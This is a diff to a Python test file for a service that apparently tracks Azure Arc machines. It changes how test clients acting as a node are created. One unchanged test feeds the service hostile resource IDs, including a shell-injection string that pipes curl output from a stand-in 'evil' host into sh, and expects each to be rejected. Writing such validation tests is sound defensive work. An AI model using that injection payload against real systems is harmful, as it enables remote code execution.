@@ -110,7 +110,7 @@ def test_arc_machine_with_another_identity_is_never_removed(service: Running, ad
 @pytest.mark.parametrize("reported", ["/subscriptions/x;curl${IFS}evil|sh", "/subscriptions/\x1b[2J", "/etc/x"])
 @pytest.mark.usefixtures("deleted")
 def test_reported_resource_must_be_an_id(service: Running, tenant: Tenant, name: str, reported: str) -> None:
-    own = service.admin.as_somebody(tenant.application(callers.NODE))
+    own = service.admin.by(tenant, callers.NODE)
 
     assert own.report(name, {"remainingResources": [reported]}).status == 400
 
@@ -129,7 +129,7 @@ def test_what_remains_in_azure_is_audited_with_commands(
 
 @pytest.mark.usefixtures("deleted")
 def test_deleted_node_can_report_what_remains(service: Running, tenant: Tenant, name: str) -> None:
-    own = service.admin.as_somebody(tenant.application(callers.NODE))
+    own = service.admin.by(tenant, callers.NODE)
 
     answer = own.report(name, {"remainingResources": [machine(name)]})
 
@@ -151,7 +151,7 @@ def test_lost_machine_loses_its_role_assignments(service: Running, admin: Api, t
     by_identity = body()
     by_identity["properties"]["kubernetesAuth"] = {"useAzureAuth": True, "method": "exec"}
     admin.put(name, by_identity)
-    own = admin.as_somebody(tenant.application(callers.NODE))
+    own = admin.by(tenant, callers.NODE)
     assert own.report(name, {"joinState": "ConfigFetched"}).status == 200
     admin.delete(name)
     arm = FakeArm()
